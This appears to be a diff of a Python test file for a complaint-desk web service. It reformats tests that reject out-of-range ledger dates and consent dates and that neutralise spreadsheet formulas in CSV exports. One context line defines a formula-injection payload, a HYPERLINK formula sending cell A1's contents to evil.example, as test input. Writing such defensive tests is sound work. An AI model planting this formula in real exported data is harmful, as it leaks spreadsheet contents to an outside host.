@@ -11,8 +11,10 @@ from desk_calls import OFFICE, extend, hall_time, register
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
 
 
-@pytest.mark.parametrize("period", ["from=0001-01-01&to=0001-01-31", "from=9999-12-01&to=9999-12-31",
-                                    "from=2026-11-01&to=9999-12-31"])
+@pytest.mark.parametrize(
+    "period",
+    ["from=0001-01-01&to=0001-01-31", "from=9999-12-01&to=9999-12-31", "from=2026-11-01&to=9999-12-31"],
+)
 def test_r_unres_2_a_ledger_period_at_the_ends_of_the_calendar_is_a_422(complaints_http, web_session, period):
     refused = web_session.get(f"/desk/ledger?{period}&format=csv", headers=OFFICE)
     assert refused.status_code == 422, refused.text
@@ -33,7 +35,8 @@ def test_r_unres_2_cells_typed_as_formulas_come_out_as_text_in_the_ledger_csv(co
 def test_r_unres_1_a_consent_given_in_the_year_1_is_a_422(complaints_http, web_session):
     complaints_http.clock.return_value = hall_time(date(2026, 11, 23))
     item = register(web_session)
-    refused = extend(web_session, item["item_no"], consent={"given_at": "0001-01-01T00:00:00+08:00",
-                                                            "method": "phone"})
+    refused = extend(
+        web_session, item["item_no"], consent={"given_at": "0001-01-01T00:00:00+08:00", "method": "phone"}
+    )
     assert refused.status_code == 422, refused.text
     assert "2000-01-01" in str(refused.json()["error"]["details"])
